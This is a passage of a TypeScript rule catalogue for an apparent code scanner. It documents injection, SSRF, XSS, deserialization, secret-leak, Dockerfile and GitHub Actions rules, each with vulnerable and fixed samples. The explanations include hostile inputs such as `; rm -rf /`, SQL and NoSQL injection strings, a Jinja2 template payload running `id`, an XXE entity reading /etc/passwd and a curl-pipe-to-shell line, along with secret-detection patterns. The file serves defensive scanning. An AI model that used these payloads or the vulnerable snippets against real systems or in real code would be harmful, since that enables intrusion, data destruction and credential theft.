import type { Category, Severity } from '../types';

/** A rule Argus wrote itself (taint, structural, secrets, Dockerfile, workflow and template rules), documented in full. */
export interface OwnRule {
  id: string;
  language: 'javascript' | 'python' | 'any' | 'docker' | 'github-actions' | 'templates';
  title: string;
  category: Category;
  severity: Severity;
  cwe: string[];
  owasp: string[];
  description: string;
  why: string;
  fix: string;
  noncompliant: string;
  compliant: string;
  helpUri: string;
}

export const A01 = 'A01:2021-Broken Access Control';
export const A02 = 'A02:2021-Cryptographic Failures';
export const A03 = 'A03:2021-Injection';
export const A05 = 'A05:2021-Security Misconfiguration';
export const A07 = 'A07:2021-Identification and Authentication Failures';
export const A08 = 'A08:2021-Software and Data Integrity Failures';
const A09 = 'A09:2021-Security Logging and Monitoring Failures';
const A10 = 'A10:2021-Server-Side Request Forgery';
const CS = 'https://cheatsheetseries.owasp.org/cheatsheets/';
const cwe = (n: number) => `https://cwe.mitre.org/data/definitions/${n}.html`;

const TAINT_WHY = 'Anything in a request (query string, form or JSON body, route parameters, headers, cookies, uploaded files) is written by the client, so an attacker chooses it.';

export const OWN_RULES: readonly OwnRule[] = [
  // Taint flows (JavaScript and TypeScript; Python where `language` is 'any'). Examples are labeled by language.
  {
    id: 'taint/code-injection', language: 'any', title: 'Request data is executed as code', category: 'security', severity: 'critical', cwe: ['CWE-94', 'CWE-95'], owasp: [A03],
    description: "Data from the request reaches code evaluation: in JavaScript eval(), the Function constructor, vm or a string timer; in Python eval(), exec(), ImageMath.eval(), or a template or .py file written with it.",
    why: `${TAINT_WHY} Evaluating it runs the attacker's code inside the server, with its files, secrets and network.`,
    fix: "Never evaluate input. Parse data (JSON.parse, json.loads, ast.literal_eval for Python literals), compute with a small expression parser, or dispatch through a lookup table of allowed operations.",
    noncompliant: "// JavaScript\napp.post('/calc', (req, res) => res.json({ result: eval(req.body.expression) }));\n\n# Python\nresult = eval(request.POST['expression'])",
    compliant: "// JavaScript\nconst ops = { add: (a, b) => a + b };\napp.post('/calc', (req, res) => res.json({ result: ops[req.body.op]?.(Number(req.body.a), Number(req.body.b)) }));\n\n# Python\nOPS = {'add': operator.add}\nresult = OPS[request.POST['op']](int(request.POST['a']), int(request.POST['b']))",
    helpUri: `${CS}Nodejs_Security_Cheat_Sheet.html`,
  },
  {
    id: 'taint/command-injection', language: 'any', title: 'Request data reaches an OS command', category: 'security', severity: 'critical', cwe: ['CWE-78'], owasp: [A03],
    description: "Data from the request is built into an OS command: in JavaScript run by child_process (exec, spawn, execFile) or a shell wrapper; in Python by os.system/os.popen or subprocess with shell=True.",
    why: `${TAINT_WHY} A shell parses the string: \`; rm -rf /\` or \`$(curl …)\` in it runs other commands.`,
    fix: "Run a fixed program with an argument list and no shell (execFile/spawn; subprocess.run([...]) without shell=True), validate the value against an allowlist or a strict pattern, and pass `--` before user arguments.",
    noncompliant: "// JavaScript\nexec(`ping -c 1 ${req.query.host}`);\n\n# Python\nos.system('ping -c 1 ' + request.GET['host'])",
    compliant: "// JavaScript\nif (!/^[a-z0-9.-]{1,253}$/i.test(host)) return res.sendStatus(400);\nexecFile('ping', ['-c', '1', '--', host]);\n\n# Python\nif not re.fullmatch(r'[a-z0-9.-]{1,253}', host, re.I):\n    return HttpResponseBadRequest()\nsubprocess.run(['ping', '-c', '1', '--', host], check=True)",
    helpUri: `${CS}OS_Command_Injection_Defense_Cheat_Sheet.html`,
  },
  {
    id: 'taint/sql-injection', language: 'any', title: 'Request data is built into a SQL query', category: 'security', severity: 'critical', cwe: ['CWE-89'], owasp: [A03],
    description: "A SQL string built by concatenation, a template or formatting from request data is passed to a database driver or ORM raw query (in Python: cursor.execute(), Model.objects.raw()).",
    why: `${TAINT_WHY} A quote in it ends the literal and the rest is SQL: \`' OR '1'='1\` reads every row, \`'; DROP TABLE …\` destroys data.`,
    fix: "Use placeholders and pass values separately (`?` for mysql/sqlite, `$1` for pg, named replacements in Sequelize, knex bindings, Prisma tagged templates; `%s` with a parameter tuple in Python DB-API, or the Django ORM).",
    noncompliant: "// JavaScript\nconnection.query(\"SELECT * FROM products WHERE category = '\" + req.query.category + \"'\");\n\n# Python\ncursor.execute(\"SELECT * FROM products WHERE category = '%s'\" % request.GET['category'])",
    compliant: "// JavaScript\nconnection.query('SELECT * FROM products WHERE category = ?', [req.query.category]);\n\n# Python\ncursor.execute('SELECT * FROM products WHERE category = %s', [request.GET['category']])",
    helpUri: `${CS}SQL_Injection_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'taint/nosql-injection', language: 'javascript', title: 'Request data shapes a NoSQL query', category: 'security', severity: 'high', cwe: ['CWE-943'], owasp: [A03],
    description: 'Request data reaches a MongoDB/Mongoose `$where` (JavaScript run by the database), or a raw body/query value is used as a filter, where an object such as `{ "$ne": null }` changes its meaning.',
    why: `${TAINT_WHY} \`$where\` evaluates JavaScript in the database; and JSON bodies and qs query strings turn \`password[$ne]=x\` into an operator, so a login filter matches any user.`,
    fix: 'Never use $where with input. Convert values to the expected type (`String(req.body.username)`), validate the body with a schema (zod, joi), or use express-mongo-sanitize.',
    noncompliant: "Order.find({ $where: `this.owner == '${req.query.owner}'` });\nUser.findOne({ username: req.body.username, password: req.body.password });",
    compliant: "Order.find({ owner: String(req.query.owner) });\nconst { username } = LoginSchema.parse(req.body);",
    helpUri: `${CS}Injection_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'taint/open-redirect', language: 'any', title: 'The client chooses a redirect target', category: 'security', severity: 'high', cwe: ['CWE-601'], owasp: [A01],
    description: "A redirect goes to a URL taken from the request: res.redirect, a Location header or location.href in JavaScript; in Python, redirect() or HttpResponseRedirect (Django, Flask).",
    why: `${TAINT_WHY} A link to your domain that forwards to a look-alike phishing page is trusted by users and by mail filters; with OAuth it can leak tokens.`,
    fix: "Redirect only to relative paths you build (`/orders/${id}`) or to an allowlist of destinations; reject values starting with `//` or a scheme (Django: url_has_allowed_host_and_scheme).",
    noncompliant: "// JavaScript\nres.redirect(req.query.url);\n\n# Python\nreturn redirect(request.GET['next'])",
    compliant: "// JavaScript\nconst next = ALLOWED_RETURN_PATHS.includes(req.query.next) ? req.query.next : '/';\nres.redirect(next);\n\n# Python\norder_id = int(request.GET['order'])\nreturn redirect(f'/orders/{order_id}')",
    helpUri: `${CS}Unvalidated_Redirects_and_Forwards_Cheat_Sheet.html`,
  },
  {
    id: 'taint/ssrf', language: 'any', title: 'The client chooses a URL the server requests', category: 'security', severity: 'high', cwe: ['CWE-918'], owasp: [A10],
    description: "The server requests a URL (or host) taken from the request: fetch, axios, got, request or http.get in JavaScript; requests.get/post, urllib urlopen in Python.",
    why: `${TAINT_WHY} The server can reach what the attacker cannot: cloud metadata (169.254.169.254), internal admin services, databases on localhost.`,
    fix: 'Call fixed hosts and put the user value only in the path or query, encoded; if users must give URLs, allowlist hosts, resolve DNS and refuse private and link-local addresses.',
    noncompliant: "// JavaScript\nconst page = await axios.get(req.query.link);\n\n# Python\npage = requests.get(request.GET['link'])",
    compliant: "// JavaScript\nconst url = new URL(req.query.link);\nif (!ALLOWED_HOSTS.has(url.hostname)) return res.sendStatus(400);\nconst page = await axios.get(url.toString(), { maxRedirects: 0 });\n\n# Python\npage = requests.get('https://api.example.com/search', params={'q': request.GET['q']})",
    helpUri: `${CS}Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'taint/path-traversal', language: 'any', title: 'The client chooses a file path', category: 'security', severity: 'high', cwe: ['CWE-22'], owasp: [A01],
    description: "A file system call uses a path built from request data: fs.*, res.sendFile, res.download, res.render or archive entry names in JavaScript; open(), send_file() in Python.",
    why: `${TAINT_WHY} \`../../etc/passwd\` or an absolute path escapes the intended folder; path.join and os.path.join do not prevent it.`,
    fix: "Take only the file name (path.basename, werkzeug secure_filename), resolve it against the base folder and check the result still starts with it, or use res.sendFile(name, { root }) / flask send_from_directory.",
    noncompliant: "// JavaScript\nfs.readFile(path.join(UPLOADS, req.query.name), send);\n\n# Python\nwith open(os.path.join(UPLOADS, request.args['name'])) as f:\n    data = f.read()",
    compliant: "// JavaScript\nconst file = path.resolve(UPLOADS, path.basename(req.query.name));\nif (!file.startsWith(UPLOADS + path.sep)) return res.sendStatus(400);\nfs.readFile(file, send);\n\n# Python\nreturn send_from_directory(UPLOADS, secure_filename(request.args['name']))",
    helpUri: 'https://owasp.org/www-community/attacks/Path_Traversal',
  },
  {
    id: 'taint/xss', language: 'any', title: 'Request data is written into HTML', category: 'security', severity: 'high', cwe: ['CWE-79'], owasp: [A03],
    description: "Request data is written into HTML without escaping: res.send/res.write (sent as text/html), innerHTML, document.write, insertAdjacentHTML or dangerouslySetInnerHTML in JavaScript; mark_safe(), Markup() or SafeString in Python, which turn auto-escaping off.",
    why: `${TAINT_WHY} A \`<script>\` in it runs in your users' browsers with their session: reflected cross-site scripting.`,
    fix: "Send JSON (res.json, JsonResponse), render through a template engine with auto-escaping on and do not mark request data safe, escape with escape-html or django.utils.html.escape / format_html, or sanitize HTML with DOMPurify (bleach in Python); in the DOM use textContent.",
    noncompliant: "// JavaScript\nres.send(`<h1>Hello ${req.query.name}</h1>`);\n\n# Python\nreturn HttpResponse(mark_safe('<h1>Hello ' + request.GET['name'] + '</h1>'))",
    compliant: "// JavaScript\nres.send(`<h1>Hello ${escapeHtml(req.query.name)}</h1>`);\n\n# Python\nreturn HttpResponse(format_html('<h1>Hello {}</h1>', request.GET['name']))",
    helpUri: `${CS}Cross_Site_Scripting_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'taint/regex-injection', language: 'javascript', title: 'The client writes a regular expression', category: 'security', severity: 'high', cwe: ['CWE-1333', 'CWE-730'], owasp: [A03],
    description: 'A regular expression is compiled from request data (new RegExp()).',
    why: `${TAINT_WHY} A pattern like \`(a+)+$\` takes exponential time on a short input and blocks the event loop for every user (ReDoS).`,
    fix: 'Escape the value (escape-string-regexp, `s.replace(/[.*+?^${}()|[\\]\\\\]/g, "\\\\$&")`) or match with string methods (includes, startsWith).',
    noncompliant: "const re = new RegExp(req.query.search);",
    compliant: "const re = new RegExp(escapeStringRegexp(req.query.search), 'i');",
    helpUri: 'https://owasp.org/www-community/attacks/Regular_expression_Denial_of_Service_-_ReDoS',
  },
  {
    id: 'taint/log-injection', language: 'javascript', title: 'Request data is written to the log unescaped', category: 'security', severity: 'medium', cwe: ['CWE-117'], owasp: [A09],
    description: 'A log call (console.*, a logger) writes a string containing request data.',
    why: `${TAINT_WHY} A newline in it forges log lines ("admin logged in"), hides an attack from whoever reads the log, or injects markup into log viewers.`,
    fix: 'Log structured fields (`logger.info({ username }, "failed login")`, which JSON-encodes them), or strip CR/LF before logging.',
    noncompliant: "console.log('Failed login for ' + req.body.username);",
    compliant: "logger.warn({ username: req.body.username }, 'failed login');",
    helpUri: `${CS}Logging_Cheat_Sheet.html`,
  },
  {
    id: 'taint/dynamic-import', language: 'javascript', title: 'The client chooses a module to load', category: 'security', severity: 'critical', cwe: ['CWE-829', 'CWE-94'], owasp: [A03],
    description: 'A module is loaded by a name built from request data (require(), import()).',
    why: `${TAINT_WHY} Loading a module runs its code: a path to an uploaded file, or to any module on disk, executes it.`,
    fix: 'Map allowed names to modules in a fixed table and load only those.',
    noncompliant: "const plugin = require(`./plugins/${req.params.name}`);",
    compliant: "const PLUGINS = { csv: require('./plugins/csv') };\nconst plugin = PLUGINS[req.params.name];",
    helpUri: cwe(829),
  },
  {
    id: 'taint/deserialization', language: 'any', title: 'Request data is deserialized unsafely', category: 'security', severity: 'critical', cwe: ['CWE-502'], owasp: ['A08:2021-Software and Data Integrity Failures'],
    description: 'Request data reaches a deserializer that can build arbitrary objects or run code: node-serialize unserialize(), yaml.load() run on sandbox data in vm; in Python pickle/cPickle/dill/marshal loads(), yaml.load() without a safe loader, jsonpickle.decode().',
    why: `${TAINT_WHY} node-serialize revives functions (an \`_$$ND_FUNC$$_\` value with \`()\` runs on load), pickle calls any callable through __reduce__, and unsafe YAML loaders build arbitrary objects (or expand a billion laughs).`,
    fix: 'Exchange data as JSON (JSON.parse / json.loads) and validate it with a schema; in Python use yaml.safe_load; never unpickle data that crossed a trust boundary (sign it with an HMAC if it must round-trip).',
    noncompliant: "// JavaScript\nconst products = serialize.unserialize(req.files.products.data.toString());\n\n# Python\nobj = pickle.loads(base64.b64decode(request.COOKIES['token']))",
    compliant: "// JavaScript\nconst products = ProductsSchema.parse(JSON.parse(req.files.products.data.toString()));\n\n# Python\nobj = json.loads(request.COOKIES['token'])",
    helpUri: `${CS}Deserialization_Cheat_Sheet.html`,
  },
  {
    id: 'taint/template-injection', language: 'python', title: 'Request data is compiled as a template', category: 'security', severity: 'critical', cwe: ['CWE-1336', 'CWE-94'], owasp: [A03],
    description: 'Request data becomes template source: Django/Jinja2/Mako Template(), render_template_string(), Environment.from_string().',
    why: `${TAINT_WHY} Template syntax in it is executed on the server: \`{{ settings.SECRET_KEY }}\` in Django, \`{{ cycler.__init__.__globals__.os.popen('id').read() }}\` in Jinja2.`,
    fix: 'Keep templates in files you ship, and pass the user data as context variables: render(request, "page.html", {"text": text}).',
    noncompliant: "return HttpResponse(Template(request.POST['bio']).render(Context({})))",
    compliant: "return render(request, 'bio.html', {'bio': request.POST['bio']})",
    helpUri: 'https://portswigger.net/web-security/server-side-template-injection',
  },
  // Structural rules (ast-grep)
  {
    id: 'argus/weak-hash-package', language: 'javascript', title: 'MD5/SHA-1 from a hashing package', category: 'security', severity: 'medium', cwe: ['CWE-328', 'CWE-916'], owasp: [A02],
    description: 'A call to a function imported from md5, sha1, js-md5, js-sha1, md5-hex, blueimp-md5 or crypto-js/md5|sha1 (crypto.createHash is covered by sonarjs/hashing).',
    why: 'MD5 and SHA-1 are fast and broken: password hashes fall to a GPU in hours, and a token computed from public data (md5(login)) is computed by the attacker too.',
    fix: 'Hash passwords with bcrypt, scrypt or argon2; make tokens with crypto.randomBytes(32) and store only their hash; use SHA-256 for integrity.',
    noncompliant: "const md5 = require('md5');\nconst resetToken = md5(user.login);", compliant: "const resetToken = crypto.randomBytes(32).toString('hex');", helpUri: cwe(328),
  },
  {
    id: 'argus/sequelize-query-logging', language: 'javascript', title: 'Sequelize logs every SQL statement', category: 'security', severity: 'low', cwe: ['CWE-532'], owasp: [A09],
    description: 'new Sequelize(…) without a logging option: Sequelize prints each statement, with its values, through console.log.',
    why: 'Inserts and updates carry passwords, reset tokens and personal data; in the console they end up in log files and log services that far more people can read than the database.',
    fix: 'Pass logging: false in production, or a function that logs only the statement shape through the project logger.',
    noncompliant: "new Sequelize(db, user, pass, { host, dialect: 'mysql' });", compliant: "new Sequelize(db, user, pass, { host, dialect: 'mysql', logging: false });", helpUri: 'https://sequelize.org/docs/v6/getting-started/#logging',
  },
  {
    id: 'argus/permissive-cors', language: 'javascript', title: 'CORS allows every origin', category: 'security', severity: 'medium', cwe: ['CWE-942'], owasp: [A05],
    description: "cors() called with no options (origin '*'), or with origin: '*' / origin: true, in a file that imports the cors package.",
    why: "Every web site can call the API from its visitors' browsers and read the answers; with credentials or network-level trust (intranets, localhost) that exposes data.",
    fix: 'Pass an allowlist of origins: cors({ origin: ["https://app.example.com"] }), and enable credentials only for those.',
    noncompliant: 'app.use(cors());', compliant: "app.use(cors({ origin: ['https://app.example.com'] }));", helpUri: `${CS}HTML5_Security_Cheat_Sheet.html#cross-origin-resource-sharing`,
  },
  {
    id: 'argus/xml-entity-expansion', language: 'javascript', title: 'XML parsing with entity substitution', category: 'security', severity: 'high', cwe: ['CWE-611', 'CWE-776'], owasp: [A05],
    description: 'libxml2 parse options XML_PARSE_NOENT or XML_PARSE_DTDLOAD, or a parser option noent: true (libxmljs).',
    why: 'With entities substituted, <!ENTITY x SYSTEM "file:///etc/passwd"> puts server files into the document (XXE), and nested entities expand to gigabytes (billion laughs).',
    fix: 'Parse with the default options (no NOENT, no DTDLOAD); reject documents with a DOCTYPE if you do not need one.',
    noncompliant: 'libxmljs.parseXmlString(xml, { noent: true });', compliant: 'libxmljs.parseXmlString(xml);', helpUri: `${CS}XML_External_Entity_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'argus/no-eval', language: 'javascript', title: 'eval() is used', category: 'security', severity: 'high', cwe: ['CWE-95'], owasp: [A03],
    description: 'A call to eval().', why: 'eval runs a string as code with the privileges of the caller; any input that reaches it is code execution.',
    fix: 'Use JSON.parse for data, a lookup table for dispatch, or write the code in source.', noncompliant: 'const value = eval(text);', compliant: 'const value = JSON.parse(text);', helpUri: cwe(95),
  },
  {
    id: 'argus/no-new-func', language: 'javascript', title: 'The Function constructor is used', category: 'security', severity: 'high', cwe: ['CWE-95'], owasp: [A03],
    description: 'new Function(...) or Function(...).', why: 'It compiles a string into a function, like eval.', fix: 'Write the function in source.',
    noncompliant: "const add = new Function('a', 'b', 'return a + b');", compliant: 'const add = (a, b) => a + b;', helpUri: cwe(95),
  },
  {
    id: 'argus/no-document-write', language: 'javascript', title: 'document.write() with a dynamic value', category: 'security', severity: 'low', cwe: ['CWE-79'], owasp: [A03],
    description: 'document.write/writeln is given something other than a literal.', why: 'Whatever markup the value holds is parsed, scripts included (DOM XSS).',
    fix: 'Create elements and set textContent.', noncompliant: 'document.write(banner);', compliant: 'el.textContent = banner;', helpUri: `${CS}DOM_based_XSS_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'argus/no-inner-html', language: 'javascript', title: 'innerHTML is assigned a dynamic value', category: 'security', severity: 'low', cwe: ['CWE-79'], owasp: [A03],
    description: 'innerHTML/outerHTML/insertAdjacentHTML with a non-literal value.', why: 'The value is parsed as HTML: an `<img onerror=…>` in it runs script.',
    fix: 'Use textContent, or sanitize with DOMPurify first.', noncompliant: 'el.innerHTML = comment.body;', compliant: 'el.textContent = comment.body;', helpUri: `${CS}DOM_based_XSS_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'argus/command-injection', language: 'javascript', title: 'A shell command is built from a string', category: 'security', severity: 'high', cwe: ['CWE-78'], owasp: [A03],
    description: 'exec/execSync of a template or concatenation.', why: 'The string goes to a shell, so any value in it that contains ; | $( ) runs more commands.',
    fix: 'Use execFile/spawn with an argument array and validate the input.', noncompliant: 'exec(`convert ${file} out.png`);', compliant: "execFile('convert', [file, 'out.png']);", helpUri: `${CS}OS_Command_Injection_Defense_Cheat_Sheet.html`,
  },
  {
    id: 'argus/no-string-timer', language: 'javascript', title: 'setTimeout/setInterval with a string', category: 'security', severity: 'medium', cwe: ['CWE-95'], owasp: [A03],
    description: 'A timer is given code as a string.', why: 'The string is evaluated like eval.', fix: 'Pass a function.',
    noncompliant: "setTimeout('refresh()', 1000);", compliant: 'setTimeout(refresh, 1000);', helpUri: cwe(95),
  },
  {
    id: 'argus/tls-verification-disabled', language: 'javascript', title: 'TLS certificate verification is turned off', category: 'security', severity: 'high', cwe: ['CWE-295'], owasp: [A02, A07],
    description: 'rejectUnauthorized: false or NODE_TLS_REJECT_UNAUTHORIZED=0.', why: 'Anyone on the network path can impersonate the server and read or change the traffic.',
    fix: 'Trust the right CA (the `ca` option or NODE_EXTRA_CA_CERTS) instead.', noncompliant: 'https.request({ host, rejectUnauthorized: false });', compliant: 'https.request({ host, ca: fs.readFileSync(CA_FILE) });', helpUri: cwe(295),
  },
  {
    id: 'argus/empty-catch', language: 'javascript', title: 'Empty catch block', category: 'maintainability', severity: 'low', cwe: ['CWE-390'], owasp: [],
    description: 'A catch block with no statements.', why: 'The error disappears: failures go unnoticed and are hard to debug.',
    fix: 'Handle, log or rethrow it, or say in a comment why it is safe to ignore.', noncompliant: 'try { save(); } catch (e) {}', compliant: "try { save(); } catch (err) { logger.warn({ err }, 'save failed'); }", helpUri: cwe(390),
  },
  {
    id: 'argus/await-in-loop', language: 'javascript', title: 'await inside a loop', category: 'performance', severity: 'low', cwe: [], owasp: [],
    description: 'An await in a for/for…of/for…in body.', why: 'Iterations run one after another; independent work takes the sum of the latencies instead of the longest one.',
    fix: 'Start the iterations together and await Promise.all (bounded if there are many).', noncompliant: 'for (const id of ids) await load(id);', compliant: 'await Promise.all(ids.map(load));', helpUri: 'https://eslint.org/docs/latest/rules/no-await-in-loop',
  },
  {
    id: 'argus/loose-null-check', language: 'javascript', title: '== null comparison', category: 'style', severity: 'info', cwe: [], owasp: [],
    description: '`x == null` or `x != null`.', why: 'It also matches undefined, which readers may not expect.', fix: 'Compare explicitly, or use ?? and optional chaining.',
    noncompliant: 'if (user == null) return;', compliant: 'if (user === null || user === undefined) return;', helpUri: 'https://eslint.org/docs/latest/rules/eqeqeq',
  },
  {
    id: 'argus/no-console-log', language: 'javascript', title: 'console.log() in application code', category: 'style', severity: 'info', cwe: [], owasp: [],
    description: 'A console.log call outside tests.', why: 'Debug output clutters logs and can leak data.', fix: 'Use the project logger or remove it.',
    noncompliant: "console.log('user', user);", compliant: "logger.debug({ userId: user.id }, 'loaded user');", helpUri: 'https://eslint.org/docs/latest/rules/no-console',
  },
  {
    id: 'argus/missing-csrf-protection', language: 'javascript', title: 'Cookie sessions without CSRF protection', category: 'security', severity: 'medium', cwe: ['CWE-352'], owasp: [A01],
    description: 'An Express app uses cookie-based sessions and handles state-changing routes, but the repository uses no CSRF middleware (csurf, csrf-csrf, lusca, tiny-csrf).',
    why: 'The browser sends the session cookie with any cross-site form post, so another site can act as the signed-in user.',
    fix: 'Add CSRF tokens (csrf-csrf or lusca.csrf) to state-changing routes, and set the session cookie sameSite: "lax" or "strict".',
    noncompliant: "app.use(session({ secret }));\napp.post('/transfer', transfer);", compliant: "app.use(session({ secret, cookie: { sameSite: 'strict', secure: true, httpOnly: true } }));\napp.use(doubleCsrfProtection);", helpUri: `${CS}Cross-Site_Request_Forgery_Prevention_Cheat_Sheet.html`,
  },
  {
    id: 'argus/missing-security-headers', language: 'javascript', title: 'Express app without security headers', category: 'security', severity: 'medium', cwe: ['CWE-693', 'CWE-1021', 'CWE-200'], owasp: [A05],
    description: 'An Express application is created and the repository sets no security headers (no helmet, no Content-Security-Policy/X-Frame-Options of its own).',
    why: 'Without Content-Security-Policy, X-Frame-Options, X-Content-Type-Options and HSTS, XSS is easier to exploit, pages can be framed (clickjacking) and X-Powered-By advertises the framework.',
    fix: 'app.use(helmet()) right after creating the app, and tune its Content-Security-Policy.', noncompliant: 'const app = express();', compliant: "const app = express();\napp.use(helmet());", helpUri: 'https://expressjs.com/en/advanced/best-practice-security.html#use-helmet',
  },
  {
    id: 'python/django-debug', language: 'python', title: 'Django settings with DEBUG = True', category: 'security', severity: 'medium', cwe: ['CWE-489', 'CWE-215'], owasp: [A05],
    description: 'A Django settings module sets DEBUG = True unconditionally.',
    why: 'With DEBUG on, every error page shows the stack trace, local variables, settings and SQL to whoever triggers it, and Django keeps every query in memory.',
    fix: 'Read DEBUG from the environment, off by default: DEBUG = os.environ.get("DJANGO_DEBUG") == "1".', noncompliant: 'DEBUG = True', compliant: "DEBUG = os.environ.get('DJANGO_DEBUG') == '1'", helpUri: 'https://docs.djangoproject.com/en/stable/ref/settings/#debug',
  },
  // Secrets
  ...secret('private-key', 'Private key committed to the repository', 'critical', ['CWE-321'], 'A PEM/OpenSSH private key block.', '-----BEGIN RSA PRIVATE KEY-----', 'Load the key from a secret store or a mounted file outside the repository.'),
  ...secret('aws-access-key-id', 'AWS access key ID', 'critical', ['CWE-798'], 'An AWS access key id (AKIA…, ASIA…).', "aws_access_key_id = 'AKIA…'", 'Use IAM roles or environment credentials.'),
  ...secret('aws-secret-access-key', 'AWS secret access key', 'critical', ['CWE-798'], 'A 40-character AWS secret next to an aws key name.', "aws_secret_access_key = 'wJal…'", 'Use IAM roles or environment credentials.'),
  ...secret('github-token', 'GitHub token', 'high', ['CWE-798'], 'A GitHub personal access, OAuth, app or refresh token (ghp_, gho_, ghs_, github_pat_…).', "const token = 'ghp_…';", 'Use the GITHUB_TOKEN of the workflow or a secret of the deployment.'),
  ...secret('gitlab-token', 'GitLab token', 'high', ['CWE-798'], 'A GitLab personal access token (glpat-…).', "token: 'glpat-…'", 'Keep it in CI/CD variables.'),
  ...secret('slack-token', 'Slack token', 'high', ['CWE-798'], 'A Slack bot/user/app token (xoxb-…).', "const slack = new WebClient('xoxb-…');", 'Load it from the environment.'),
  ...secret('slack-webhook', 'Slack incoming webhook URL', 'high', ['CWE-798'], 'A hooks.slack.com webhook URL.', "const hook = 'https://hooks.slack.com/services/…';", 'Load it from the environment.'),
  ...secret('stripe-live-key', 'Stripe live secret key', 'high', ['CWE-798'], 'A Stripe live secret or restricted key (sk_live_, rk_live_).', "stripe(process.env.X || 'sk_live_…')", 'Use the environment; roll the key in the Stripe dashboard.'),
  ...secret('google-api-key', 'Google API key', 'high', ['CWE-798'], 'A Google API key (AIza…).', "key: 'AIza…'", 'Restrict the key by referrer/API and load it from configuration.'),
  ...secret('npm-token', 'npm access token', 'high', ['CWE-798'], 'An npm token (npm_…).', '//registry.npmjs.org/:_authToken=npm_…', 'Use ${NPM_TOKEN} in .npmrc.'),
  ...secret('openai-api-key', 'OpenAI API key', 'high', ['CWE-798'], 'An OpenAI key (sk-proj-…, sk-…T3BlbkFJ…).', "new OpenAI({ apiKey: 'sk-proj-…' })", 'Load it from the environment.'),
  ...secret('anthropic-api-key', 'Anthropic API key', 'high', ['CWE-798'], 'An Anthropic key (sk-ant-…).', "new Anthropic({ apiKey: 'sk-ant-…' })", 'Load it from the environment.'),
  ...secret('sendgrid-api-key', 'SendGrid API key', 'high', ['CWE-798'], 'A SendGrid key (SG.….…).', "sgMail.setApiKey('SG.…')", 'Load it from the environment.'),
  ...secret('jwt', 'JSON Web Token in the code', 'medium', ['CWE-798'], 'A signed JWT (eyJ….eyJ….…) literal.', "const token = 'eyJhbGciOi…';", 'Obtain tokens at run time; never commit one.'),
  ...secret('generic-secret', 'Hard-coded credential', 'high', ['CWE-798'], 'A credential-looking name (password, secret, api_key, token, …) assigned a high-entropy literal.', "const apiKey = 'Zq8vN3xW7tK2pL9m…';", 'Load it from the environment or a secret store.'),
  ...secret('session-secret', 'Hard-coded session/cookie secret', 'high', ['CWE-798', 'CWE-321'], 'A literal assigned to a session, cookie or signing secret (secret:, cookieSecret, sessionSecret, jwtSecret, SECRET_KEY), passed to cookieParser(), or passed as the key of jwt.sign/verify (jwt.encode/decode in Python), whatever its entropy.', "secret: 'keyboard cat'", 'Load it from the environment.'),
  // Dockerfile
  ...docker('docker/root-user', 'Container runs as root', 'medium', ['CWE-250'], 'The final stage has no USER instruction (or USER root).', 'A compromise of the process is root in the container, which makes escaping it and tampering with mounted volumes easier.', 'Add `USER node` (or a numeric non-root user) in the final stage.', 'FROM node:20\nCMD ["node", "app.js"]', 'FROM node:20\nUSER node\nCMD ["node", "app.js"]'),
  ...docker('docker/unpinned-base-image', 'Base image is not pinned', 'low', ['CWE-1357'], 'FROM uses :latest or no tag.', 'The build changes whenever the image is republished, so a compromised or broken image ships unnoticed.', 'Pin a version tag, ideally with its digest (`node:20.11-alpine@sha256:…`).', 'FROM node', 'FROM node:20.11-alpine'),
  ...docker('docker/add-from-url', 'ADD downloads from a URL', 'medium', ['CWE-494'], 'ADD with an http(s) source.', 'The file is fetched at build time without an integrity check.', 'Use RUN curl with a checksum check (`echo "<sha256>  file" | sha256sum -c`), or COPY a vendored file.', 'ADD https://example.com/tool.tgz /opt/', 'RUN curl -fsSLo /tmp/tool.tgz https://example.com/tool.tgz && echo "<sha256>  /tmp/tool.tgz" | sha256sum -c'),
  ...docker('docker/secret-in-env', 'Secret in ENV or ARG', 'high', ['CWE-798', 'CWE-538'], 'ENV/ARG of a password, token or key with a literal value.', 'It is stored in the image layers and shown by `docker history` to anyone who can pull the image.', 'Use build secrets (`RUN --mount=type=secret`) and runtime environment variables.', 'ENV DB_PASSWORD=hunter2', 'RUN --mount=type=secret,id=db_password ./configure'),
  ...docker('docker/apt-no-cleanup', 'apt-get install without cleanup', 'low', ['CWE-1104'], 'RUN apt-get install without --no-install-recommends or without removing /var/lib/apt/lists.', 'The image carries package lists and extra packages: larger, and more to patch.', 'Use `apt-get install -y --no-install-recommends … && rm -rf /var/lib/apt/lists/*` in the same RUN.', 'RUN apt-get update && apt-get install -y curl', 'RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*'),
  ...docker('docker/curl-pipe-shell', 'Downloaded script piped to a shell', 'medium', ['CWE-494'], 'RUN curl … | sh (or wget … | bash).', 'Whatever the server (or anyone in between) returns is executed as root during the build.', 'Download, verify a checksum or signature, then run.', 'RUN curl -fsSL https://get.example.sh | sh', 'RUN curl -fsSLo install.sh https://get.example.sh && echo "<sha256>  install.sh" | sha256sum -c && sh install.sh'),
  // GitHub Actions
  ...actions('actions/unpinned-action', 'Third-party action not pinned to a commit', 'medium', ['CWE-829'], [A08], 'uses: owner/action@tag for an action outside actions/* and github/*.', 'Tags can be moved: whoever controls the action (or steals its maintainer\'s token) runs code with your workflow\'s secrets.', 'Pin the full commit SHA (`uses: owner/action@<40-hex-sha> # v1.2.3`), and let Dependabot update it.', 'uses: tj-actions/changed-files@v44', 'uses: tj-actions/changed-files@a284dc1814e3fd07f2e34267fc8f81227ed29fb8 # v44'),
  ...actions('actions/pull-request-target-checkout', 'pull_request_target checks out the pull request', 'critical', ['CWE-829', 'CWE-94'], [A08], 'A workflow triggered by pull_request_target checks out the head of the pull request.', 'pull_request_target runs with secrets and a write token; building or testing the fork\'s code there hands both to anyone who opens a PR ("pwn request").', 'Use pull_request for untrusted code, or split into an unprivileged build and a privileged workflow_run that only reads artifacts.', 'on: pull_request_target\n…\n- uses: actions/checkout@v4\n  with: { ref: ${{ github.event.pull_request.head.sha }} }', 'on: pull_request\n…\n- uses: actions/checkout@v4'),
